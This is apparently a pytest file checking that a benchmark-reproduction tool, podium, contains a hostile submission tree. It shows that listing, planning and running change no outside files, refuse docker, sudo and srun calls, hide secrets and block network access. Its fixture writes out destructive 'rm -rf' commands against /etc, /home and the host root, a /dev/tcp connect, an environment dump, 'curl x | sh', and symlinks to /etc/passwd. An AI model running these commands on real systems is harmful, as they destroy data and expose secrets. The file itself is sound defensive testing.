"""A tree that means harm, listed, planned and run: nothing outside of the throw-away copy changes."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
import yaml

import published
from podium import cli, config, files, manifest
from podium import plan as ours
from support import config_text

EVIL = """#!/usr/bin/env bash
rm -rf {target} "$(pwd)" "$DATADIR" /etc/* 2>/dev/null
echo gone >{target}/mine 2>/dev/null
mkdir -p {target} && echo evil >{target}/evil
docker "run" -v /:/host "$CONT" rm -rf /host{target}
docker "run" -v {target}:/t "$CONT" rm -rf /t
sudo rm -rf {target}
srun rm -rf {target}
(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo reached >"$LOGDIR/reached"
env >"$LOGDIR/environment"
export DATA="$DATADIR"
bash train.sh |& tee "$LOGDIR/run.log"
"""


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """The tree, a folder that must stay as it is, and a server that must not be reached."""
    import socket

    monkeypatch.setenv("PODIUM_TEST_SECRET", "secret-of-mine")
    target = tmp_path / "target"
    target.mkdir()
    (target / "mine").write_text("mine")
    root = tmp_path / "round"
    submitter = published.code(root, "plain")
    logs = published.results(submitter)
    home = submitter / "benchmarks" / "resnet" / "implementations" / "one"
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0)
    port = server.getsockname()[1]
    (home / "run_and_time.sh").write_text(EVIL.replace("{target}", str(target)).replace("{port}", str(port)))
    (home / "configs" / "one.env").write_text(f"MILLISECONDS=600000\nrm -rf {target} ../.. /home\ncurl x | sh\n")
    (home / "link").symlink_to("/etc")
    (home / "configs" / "out.env").symlink_to("/etc/passwd")
    with (logs / "result_9.txt").open("wb") as file:
        file.truncate(10 << 30)
    (logs / "result_8.txt").symlink_to("/etc/passwd")
    (submitter / "results" / "out").symlink_to(target)
    (submitter / "systems" / "out.json").write_text("{}")
    published.results(published.code(root, "docker", submitter="private"))
    docker = root / "private" / "benchmarks" / "resnet" / "implementations" / "mxnet" / "Dockerfile"
    docker.write_text("FROM gitlab-master.nvidia.com:5005/dl/mlperf/optimized:secret\n")
    published.results(published.code(root, "docker", submitter="other"), host_processor_model_name="Neoverse-V2")
    (root / "empty" / "results").mkdir(parents=True)
    path = tmp_path / "podium.yaml"
    path.write_text(yaml.safe_dump(config_text(tmp_path / "work", reproduce={"runs": 1})))
    loaded = config.load(path)
    data = ours.layout_folder(loaded, loaded.dataset("imagenet"))
    data.mkdir(parents=True)
    (data / "train.rec").write_bytes(b"records")
    manifest.write(data, manifest.of_folder(data))
    with server:
        yield tmp_path
        with pytest.raises(BlockingIOError):
            server.accept()


def state(*roots: Path) -> dict[str, str]:
    """Every file with its content, link targets too; the sparse log by its size alone."""
    found = {}
    for root in roots:
        for base, folders, names in os.walk(root):
            for name in (*folders, *names):
                path = Path(base) / name
                if path.is_symlink():
                    found[str(path)] = str(path.readlink())
                elif path.is_file():
                    large = path.stat().st_size > 1 << 30
                    found[str(path)] = str(path.stat().st_size) if large else files.hash_file(path)
    return found


def asked(place: Path, *words: str) -> list[str]:
    return [
        "reproduce",
        str(place / "round"),
        "--round",
        published.ROUND,
        "--config",
        str(place / "podium.yaml"),
        *words,
    ]


def test_listing_and_planning_change_nothing_and_name_each_trouble(hostile, capsys):
    kept = [hostile / name for name in ("target", "round", "work/data")]
    before = state(*kept)
    top = sorted(map(str, Path("/").iterdir()))
    assert cli.main(asked(hostile, "--list", "--json")) == 0
    listed = json.loads(capsys.readouterr().out)
    trouble = " ".join(item for row in listed["results"] for item in row["trouble"])
    assert "10.7 GB" in trouble
    assert "result_8.txt: no file of this tree" in trouble
    assert cli.main(asked(hostile, "--plan", "--json")) == 0
    made = {(item["submitter"], item["system"]): item for item in json.loads(capsys.readouterr().out)["plans"]}
    assert "private base" in made["private", "one"]["refused"]
    assert any("aarch64" in item for item in made["other", "one"]["lacks"])
    assert made["acme", "one"]["published"] == 5
    assert "links that leave the tree are left out: configs/out.env, link" in made["acme", "one"]["notes"]
    assert (state(*kept), sorted(map(str, Path("/").iterdir()))) == (before, top)


def test_running_it_changes_nothing_but_its_own_logs(hostile, capsys):
    kept = [hostile / name for name in ("target", "round", "work/data")]
    before = state(*kept)
    words = ["--submitter", "acme", "--system", "one", "--benchmark", "resnet", "--yes", "--json"]
    status = cli.main(asked(hostile, *words))
    answer = capsys.readouterr()
    assert status in (0, 1), answer.err
    assert state(*kept) == before
    run = hostile / "work" / "reproduce" / "acme" / "one" / "resnet" / "0"
    assert not (run / "logs" / "reached").exists()
    assert "secret-of-mine" not in (run / "logs" / "environment").read_text()
    calls = [json.loads(line) for line in (run / "calls.jsonl").read_text().splitlines()]
    refused = [item["asked"][0] for item in calls if "refused" in str(item["done"]) or "left out" in str(item["done"])]
    assert refused == ["docker", "docker", "sudo", "srun"]


def test_a_missing_result_folder_is_told(hostile, capsys):
    assert cli.main(asked(hostile, "--submitter", "empty", "--system", "one", "--benchmark", "resnet")) == 2
    assert "no result one/resnet" in capsys.readouterr().err
